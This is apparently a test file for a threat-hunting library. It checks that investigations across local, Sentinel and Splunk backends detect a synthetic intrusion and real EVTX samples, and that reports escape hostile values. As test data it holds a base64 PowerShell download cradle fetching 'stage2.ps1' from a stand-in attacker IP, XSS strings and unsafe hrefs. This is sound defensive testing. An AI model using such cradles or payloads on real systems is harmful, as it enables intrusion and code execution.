"""hb.investigate: every investigation on the demo incident, from a LocalStore, a Sentinel workspace (the
loopback Log Analytics, KQL run by duckdb_kql) and a Splunk (the loopback SPL server) holding the same
events; skipped and failing parts; the Findings' HTML, Markdown and JSON; real EVTX samples."""

from __future__ import annotations

import json
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

import huntbook as hb
from conftest import run_cli
from huntbook import demo
from huntbook.config import Config
from huntbook.errors import ParameterError
from huntbook.investigations import INVESTIGATIONS, asim_columns
from huntbook.plugins import registry
from huntbook.queries import CatalogueWarning
from huntbook.report import Findings
from huntbook.session import QueryProvider
from huntbook.store import LocalStore
from huntbook.testing.drivers import comparable

START, END = demo.START, demo.START + timedelta(days=7)
TABLES = ("process_events", "authentication", "network_sessions", "dns")
ENCODED = (
    "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"  # the cradle's start
)
DOWNLOAD = "DownloadString('http://203.0.113.66/stage2.ps1')"
TOKEN = "inv-test-token-7d1e"

# investigation, target -> what its findings must name (the demo's constants; None: the encoded command)
CASES: list[tuple[str, str, tuple[str | None, ...]]] = [
    ("host", demo.VICTIM_HOST, (demo.VICTIM_USER, demo.ATTACKER_IP, None)),
    ("account", demo.VICTIM_USER, (demo.VICTIM_HOST, demo.ATTACKER_IP, None)),
    ("ip", demo.ATTACKER_IP, (demo.VICTIM_HOST, demo.VICTIM_USER, None)),
    ("logon_sessions", demo.VICTIM_HOST, (demo.VICTIM_USER, demo.ATTACKER_IP, None)),
    ("network", demo.VICTIM_HOST, (demo.ATTACKER_IP,)),
    ("url", demo.ATTACKER_DOMAIN, (demo.ATTACKER_IP, demo.VICTIM_HOST, demo.VICTIM_USER, None)),
    ("url", f"http://{demo.ATTACKER_IP}/stage2.ps1", (demo.VICTIM_HOST, demo.VICTIM_USER, None)),
]


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> LocalStore:
    out = tmp_path_factory.mktemp("inv-demo")
    demo.generate(out / "data")
    local = LocalStore(out / "store")
    local.ingest([out / "data" / "windows", out / "data" / "zeek"], progress=False)
    return local


@pytest.fixture(scope="module")
def frames(store: LocalStore) -> dict[str, pd.DataFrame]:
    qp = QueryProvider("local", store=store, config=Config())
    return {t: qp.exec_query(f"SELECT * FROM {t}") for t in TABLES}


@pytest.fixture(scope="module")
def local(store: LocalStore) -> QueryProvider:
    return QueryProvider("local", store=store, config=Config())


@pytest.fixture(scope="module")
def sentinel(
    frames: dict[str, pd.DataFrame], tmp_path_factory: pytest.TempPathFactory
) -> Iterator[QueryProvider]:
    pytest.importorskip("azure.monitor.query")
    pytest.importorskip("duckdb_kql")
    from huntbook.drivers.sentinel import SentinelDriver
    from sentinel_server import LogAnalyticsApp, self_signed_cert, sentinel_workspace, serve_https

    registry("huntbook.drivers").register("sentinel", SentinelDriver)
    alerts = pd.DataFrame(
        {
            "TimeGenerated": pd.Series([START + timedelta(days=3)] * 2, dtype="datetime64[us, UTC]"),
            "SystemAlertId": ["al-1", "al-2"],
            "AlertName": ["Password spray against SRV01", "Rare process on WS04"],
            "AlertSeverity": ["High", "Low"],
            "Entities": [f'[{{"$id":"2","Address":"{demo.ATTACKER_IP}","Type":"ip"}}]', "[]"],
        }
    )
    app = LogAnalyticsApp({"ws-demo": {**sentinel_workspace(frames), "SecurityAlert": alerts}}, token=TOKEN)
    cert, key = self_signed_cert(tmp_path_factory.mktemp("tls"))
    with serve_https(app, cert, key) as (_, url):
        qp = QueryProvider(
            "sentinel", config=Config(), workspace_id="ws-demo", token=TOKEN, endpoint=url, verify=cert
        )
        yield qp
        qp.close()
    app.close()


@pytest.fixture(scope="module")
def splunk(frames: dict[str, pd.DataFrame]) -> Iterator[QueryProvider]:
    pytest.importorskip("splunklib")
    from huntbook.drivers.splunk import SplunkDriver
    from huntbook.testing.loopback import LoopbackServer
    from splunk_server import SplunkServer, splunk_events

    registry("huntbook.drivers").register("splunk", SplunkDriver)
    state = SplunkServer(token=TOKEN)
    for table in TABLES:
        state.add_events(splunk_events(table, frames[table]))
    with LoopbackServer(state.app) as server:
        qp = QueryProvider(
            "splunk", config=Config(), url=server.url, token=TOKEN, poll_interval=0.02, page_size=10_000
        )
        yield qp
        qp.close()


@pytest.fixture(params=["local", "sentinel", "splunk"])
def backend(request: pytest.FixtureRequest) -> QueryProvider:
    provider: QueryProvider = request.getfixturevalue(request.param)
    return provider


def _text(findings: Findings) -> str:
    return json.dumps(findings.to_dict()).lower()


# ---------------------------------------------------------------------------------------------------------
# The incident, on every backend


@pytest.mark.parametrize(("kind", "target", "expected"), CASES, ids=[f"{k}-{t}" for k, t, _ in CASES])
def test_investigation_finds_the_incident(
    backend: QueryProvider, kind: str, target: str, expected: tuple[str | None, ...]
) -> None:
    found = hb.investigate.run(kind, backend, target, START, END, charts=False)
    text = _text(found)
    for value in expected:
        if value is None:  # the encoded command, found and decoded
            assert ENCODED.lower() in text, f"{kind}({target}) on {backend.environment}: no encoded command"
            assert DOWNLOAD.lower() in text, f"{kind}({target}) on {backend.environment}: not decoded"
        else:
            assert value.lower() in text, f"{kind}({target}) on {backend.environment}: {value} not found"
    failed = [n for n in found.notes if "failed" in n]
    assert not failed, failed
    assert found.queries and all(q["rows"] >= 0 and q["seconds"] >= 0 for q in found.queries)
    assert any(f.severity in ("medium", "high") for f in found), [(f.title, f.severity) for f in found]


def test_host_severities_and_techniques(backend: QueryProvider) -> None:
    found = hb.investigate.host(backend, demo.VICTIM_HOST, START, END, charts=False)
    by_title = {f.title: f for f in found}
    encoded = by_title[f"Encoded commands on {demo.VICTIM_HOST}"]
    assert encoded.severity == "high" and "T1059.001" in encoded.techniques
    assert "url:http://203.0.113.66/stage2.ps1" in {e.key for e in encoded.entities}
    failures = by_title[f"Failed logons on {demo.VICTIM_HOST}"]
    assert failures.severity == "high" and failures.techniques == ["T1110.003"]
    if backend.environment != "splunk":  # the Splunk catalogue has no alerts
        alerts = by_title[f"Alerts on {demo.VICTIM_HOST}"].tables[0].frame
        assert len(alerts) == (1 if backend.environment == "sentinel" else 0)  # the one naming SRV01
    logons = by_title[f"Logons on {demo.VICTIM_HOST}"]
    assert demo.ATTACKER_IP in logons.summary and {"Account", "IpAddress"} <= {
        e.entity_type for e in logons.entities
    }


def test_logon_sessions_ranks_the_attackers_session_first(backend: QueryProvider) -> None:
    found = hb.investigate.logon_sessions(backend, demo.VICTIM_HOST, START, END, charts=False, top=1)
    ranked = found[0].tables[0].frame
    assert str(ranked.iloc[0]["Account"]).lower().endswith(demo.VICTIM_USER)
    assert ranked.iloc[0]["SrcIpAddr"] == demo.ATTACKER_IP
    trees = [t for t in found[0].tables[1:] if t.title and t.title.startswith("Process tree")]
    assert trees and trees[0].frame["TargetProcessCommandLine"].str.contains("-enc", regex=False).any()


# ---------------------------------------------------------------------------------------------------------
# Parts: skipped, missing, failing, recorded


def test_skip_and_include(local: QueryProvider) -> None:
    found = hb.investigate.host(
        local, demo.VICTIM_HOST, START, END, skip=["sigma", "anomalies"], charts=False
    )
    assert "sigma: not run (skipped)" in found.notes and "anomalies: not run (skipped)" in found.notes
    assert not any(f.title.startswith("Sigma") for f in found)
    with pytest.raises(ParameterError, match="no part nope"):
        hb.investigate.host(local, demo.VICTIM_HOST, skip=["nope"])
    with pytest.raises(ParameterError, match="no investigation"):
        hb.investigate.run("printer", local, "x")


def test_missing_catalogue_queries_are_noted_not_errors(splunk: QueryProvider) -> None:
    found = hb.investigate.host(splunk, demo.VICTIM_HOST, START, END, charts=False)
    assert any(n.startswith("alerts: skipped") and "alerts.list_alerts" in n for n in found.notes)
    assert any(n.startswith("sigma: skipped") for n in found.notes)


BROKEN = """
metadata: {version: 1, data_environments: [local], data_families: [network], format: huntbook, language: sql}
sources:
  ip_connections:
    description: broken on purpose
    args: {query: "SELECT * FROM no_such_table WHERE {ip_address} = '' AND {start} < {end}"}
    parameters:
      ip_address: {description: IP, type: str}
      start: {description: start, type: datetime}
      end: {description: end, type: datetime}
"""


def test_a_failing_part_is_recorded_and_the_others_run(store: LocalStore, tmp_path: Path) -> None:
    (tmp_path / "broken.yaml").write_text(BROKEN, encoding="utf-8")
    with pytest.warns(CatalogueWarning, match="overrides"):
        broken = QueryProvider("local", store=store, config=Config(), query_paths=[tmp_path / "broken.yaml"])
    found = hb.investigate.ip(broken, demo.ATTACKER_IP, START, END, charts=False)
    failed = [n for n in found.notes if n.startswith("connections: failed:")]
    assert failed and "no_such_table" in failed[0], found.notes
    assert not any(f.title.startswith("Network peers") for f in found)
    assert any(f.title.startswith("Logons from") and f.severity == "medium" for f in found)  # others ran
    assert "Notes" in found.to_markdown() and "no\\_such\\_table" in found.to_markdown()


def test_queries_are_recorded_with_parameters(local: QueryProvider) -> None:
    found = hb.investigate.account(local, demo.VICTIM_USER, START, END, charts=False)
    names = [q["query"] for q in found.queries]
    assert "authentication.account_logons" in names and "process.account_processes" in names
    first = found.queries[names.index("authentication.account_logons")]
    assert first["parameters"]["account_name"] == demo.VICTIM_USER
    assert first["parameters"]["start"] == START.isoformat()
    assert first["rows"] > 0 and "jsmith" in first["text"]


def test_list_names_every_investigation_and_its_queries() -> None:
    table = hb.investigate.list()
    assert (
        set(table["name"])
        == set(INVESTIGATIONS)
        >= {"host", "account", "ip", "logon_sessions", "network", "url"}
    )
    host = table.set_index("name").loc["host"]
    assert "process.encoded_commands" in host["queries"] and "sigma" in host["parts"]
    assert "whois (off)" in table.set_index("name").loc["ip", "parts"]


def test_asim_columns_renames_cim_fields_only_when_missing() -> None:
    cim = pd.DataFrame({"dest": ["SRV01"], "user": ["CORP\\jsmith"], "process": ["cmd"], "EventKey": ["k"]})
    out = asim_columns(cim, "process")
    assert list(out.columns) == ["DvcHostname", "TargetUsername", "TargetProcessCommandLine", "EventKey"]
    assert list(cim.columns) == ["dest", "user", "process", "EventKey"]  # input untouched
    auth = asim_columns(pd.DataFrame({"action": ["success", "failure"]}), "authentication")
    assert auth["EventResult"].tolist() == ["Success", "Failure"]
    both = pd.DataFrame({"dest": ["a"], "DvcHostname": ["b"]})
    assert list(asim_columns(both, "process").columns) == ["dest", "DvcHostname"]


# ---------------------------------------------------------------------------------------------------------
# Findings: HTML, Markdown, JSON, Jupyter


def test_findings_save_html_markdown_json(local: QueryProvider, tmp_path: Path) -> None:
    found = hb.investigate.ip(local, demo.ATTACKER_IP, START, END)
    page = found.save(tmp_path / "ip.html").read_text(encoding="utf-8")
    assert (
        "<h1>IP address investigation: 203.0.113.66</h1>" in page
        and "Queries run" in page
        and "Notes" in page
    )
    assert "authentication.logons_from_ip" in page
    markdown = found.save(tmp_path / "ip.md").read_text(encoding="utf-8")
    assert markdown.startswith("# IP address investigation: 203.0.113.66") and "## Queries run" in markdown
    data = json.loads(found.save(tmp_path / "ip.json").read_text(encoding="utf-8"))
    assert data["title"] == found.title and len(data["findings"]) == len(found)
    logons = next(f for f in data["findings"] if f["title"].startswith("Logons from"))
    record = logons["tables"][0]["records"][0]
    assert isinstance(record["FirstSeen"], str) and record["FirstSeen"].startswith("2026-10-")
    assert data["queries"][0]["query"] and isinstance(data["queries"][0]["rows"], int)
    html = found._repr_html_()
    assert html.startswith("<iframe sandbox=") and "&lt;h1&gt;" in html


def test_findings_escape_hostile_values(tmp_path: Path) -> None:
    found = Findings(title="<script>alert(1)</script>")
    found.add("x", facts={"k": "<img src=x onerror=alert(1)>"}).add_table(pd.DataFrame({"v": ["<b>hi</b>"]}))
    found.notes.append("<i>note</i>")
    page = found.to_html()
    assert (
        "<script>alert(1)" not in page
        and "<img" not in page
        and "<b>hi" not in page
        and "<i>note" not in page
    )
    assert json.loads(found.to_json())["findings"][0]["tables"][0]["records"] == [{"v": "<b>hi</b>"}]


# ---------------------------------------------------------------------------------------------------------
# Real EVTX samples (../shared/data)


DEEPBLUE = ("password-spray.evtx", "metasploit-psexec-native-target-security.evtx", "sliver-security.evtx")


@pytest.fixture(scope="module")
def evtx_store(tmp_path_factory: pytest.TempPathFactory) -> QueryProvider:
    """Three DeepBlueCLI samples (deepbluecli-evtx/PROVENANCE.md says what each shows) in one store."""
    from conftest import SHARED_DATA

    folder = SHARED_DATA / "deepbluecli-evtx" / "evtx"
    if not folder.is_dir():
        pytest.skip(f"shared datasets not found at {folder} (clone the project beside ../shared)")
    store = LocalStore(tmp_path_factory.mktemp("deepblue"))
    summary = store.ingest([folder / name for name in DEEPBLUE], progress=False)
    assert int(summary["quarantined"].sum()) == 0
    return QueryProvider("local", store=store, config=Config())


def _host(qp: QueryProvider, computer: str) -> dict[str, Any]:
    found = hb.investigate.host(qp, computer, "2010-01-01", "2030-01-01", charts=False)
    return {f.title.split(" on ")[0]: f for f in found}


def test_evtx_password_spray_host_summary(evtx_store: QueryProvider) -> None:
    """Upstream: 294 explicit-credential logon attempts (4648) against several accounts on DESKTOP-JR78RLP."""
    found = _host(evtx_store, "DESKTOP-JR78RLP")
    failures = found["Failed logons"]
    assert failures.severity == "high" and failures.techniques == ["T1110.003"]
    assert "294 explicit-credential attempts" in failures.summary
    table = failures.tables[0].frame
    assert table["SrcIpAddr"].tolist() == ["172.16.144.128"] and table["Accounts"].iloc[0] >= 5
    accounts = {a.rsplit("\\", 1)[-1].lower() for a in found["Logons"].tables[0].frame["TargetUsername"]}
    assert {"smisenar", "administrator", "jwright", "dpendolino"} <= accounts  # index.csv's users


def test_evtx_psexec_host_summary(evtx_store: QueryProvider) -> None:
    """Upstream: Metasploit PsExec (native payload) on IE10Win7, 4688 process creations: the random service
    binary in C:\\Windows, rundll32 and the named-pipe echo of the payload."""
    found = _host(evtx_store, "IE10Win7")
    processes = found["Processes"]
    images = set(processes.tables[0].frame["TargetProcessName"])
    assert {"C:\\Windows\\System32\\rundll32.exe", "C:\\Windows\\System32\\cmd.exe"} <= images
    assert any(len(i) == len("C:\\Windows\\xxxxxxxx.exe") and i.count("\\") == 2 for i in images)
    lines = processes.tables[1].frame["TargetProcessCommandLine"]
    assert lines.str.contains("\\\\.\\pipe\\", regex=False).any()


def test_evtx_sliver_host_summary(evtx_store: QueryProvider) -> None:
    """Sliver C2 on VALKYRIE: network logons of fgaeta from 192.168.37.129 (index.csv), the implant run."""
    found = _host(evtx_store, "VALKYRIE")
    logons = found["Logons"].tables[0].frame
    mine = logons[logons["TargetUsername"].str.lower().str.endswith("fgaeta")]
    assert set(mine["SrcIpAddr"]) == {"192.168.37.129"} and set(mine["LogonType"]) == {3}
    assert "C:\\JOINT_BALL.exe" in set(found["Processes"].tables[0].frame["TargetProcessName"])


# ---------------------------------------------------------------------------------------------------------
# The Splunk catalogue's new hunts return what the LocalStore's do


def test_splunk_hunts_added_for_investigations_match_local(
    local: QueryProvider, splunk: QueryProvider
) -> None:
    window = {"start": START, "end": END}
    victim_ip = next(h.ip for h in demo.HOSTS if h.name == demo.VICTIM_HOST)
    want = local.run("network.hourly_traffic", ip_address=victim_ip, **window)
    got = splunk.run("network.hourly_traffic", ip_address=victim_ip, **window)
    columns = ["TimeGenerated", "DstIpAddr", "Connections", "BytesOut", "BytesIn"]
    assert list(got.columns) == columns and len(want) > 10
    assert comparable(got, columns) == comparable(want, columns)
    logon_id = local.run("authentication.logons_from_ip", ip_address=demo.ATTACKER_IP, **window)
    logon_id = logon_id[logon_id["EventResult"] == "Success"]["TargetSessionId"].iloc[-1]
    want = local.run(
        "process.logon_session_processes", logon_id=logon_id.upper(), host_name="SRV01", **window
    )
    got = splunk.run(
        "process.logon_session_processes", logon_id=logon_id.upper(), host_name="SRV01", **window
    )
    assert len(want) >= 5 and got["EventKey"].tolist() == want["EventKey"].tolist()
    want = local.run("authentication.rare_logon_sources", max_logons=3, **window)
    got = splunk.run("authentication.rare_logon_sources", max_logons=3, **window)
    columns = ["Source", "SourceType", "Logons", "DistinctAccounts", "Accounts"]
    assert len(want) and comparable(got, columns) == comparable(want, columns)
    for column in ("FirstSeen", "LastSeen"):  # Splunk's aggregate times are milliseconds
        assert (got[column] == want[column].dt.floor("ms")).all()


# ---------------------------------------------------------------------------------------------------------
# The command line


def test_cli_investigate_host_writes_report_and_json(store: LocalStore, tmp_path: Path) -> None:
    done = run_cli(
        "investigate", "host", demo.VICTIM_HOST, "--store", str(store.path), "--start", START.isoformat(),
        "--end", END.isoformat(), "--skip", "sigma", "--report", "out/host.html", "--json", "out/host.json",
        cwd=tmp_path,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert done.stdout.startswith(f"Host investigation: {demo.VICTIM_HOST}\n")
    assert f"[high] Encoded commands on {demo.VICTIM_HOST}" in done.stdout
    assert "note: sigma: not run (skipped)" in done.stdout
    assert demo.ATTACKER_IP in (tmp_path / "out" / "host.html").read_text(encoding="utf-8")
    data = json.loads((tmp_path / "out" / "host.json").read_text(encoding="utf-8"))
    assert data["title"] == f"Host investigation: {demo.VICTIM_HOST}" and data["queries"]


def test_cli_investigate_list_and_errors(tmp_path: Path) -> None:
    listed = run_cli("investigate", "--list", cwd=tmp_path)
    assert listed.returncode == 0 and all(name in listed.stdout for name in INVESTIGATIONS)
    bad = run_cli("investigate", "printer", "x", "--store", str(tmp_path / "s"), cwd=tmp_path)
    assert bad.returncode == 2 and "no investigation 'printer'" in bad.stderr
    missing = run_cli("investigate", "host", cwd=tmp_path)
    assert missing.returncode == 2 and "give KIND and TARGET" in missing.stderr


def test_links_block_escapes_and_refuses_unsafe_hrefs() -> None:
    from huntbook.errors import DataError
    from huntbook.report import Links, Report

    report = Report("r")
    report.add("Investigations").append(Links([("<b>host</b>", "investigations/host-a&b.html")]))
    page = report.to_html()
    assert '<a href="investigations/host-a&amp;b.html">&lt;b&gt;host&lt;/b&gt;</a>' in page
    assert "[&lt;b&gt;host&lt;/b&gt;](investigations/host-a&b.html)" in report.to_markdown()
    for href in ("javascript:alert(1)", "data:text/html,x", "//evil.example/x", "/etc/passwd"):
        with pytest.raises(DataError, match="unsafe link"):
            Links([("x", href)])
    assert Links([("x", "https://example.org/a?b=c")]).to_html().count("href=") == 1


def test_ip_alerts_on_sentinel(sentinel: QueryProvider) -> None:
    found = hb.investigate.ip(sentinel, demo.ATTACKER_IP, START, END, charts=False)
    alerts = next(f for f in found if f.title == f"Alerts for {demo.ATTACKER_IP}")
    assert alerts.severity == "medium" and alerts.tables[0].frame["SystemAlertId"].tolist() == ["al-1"]
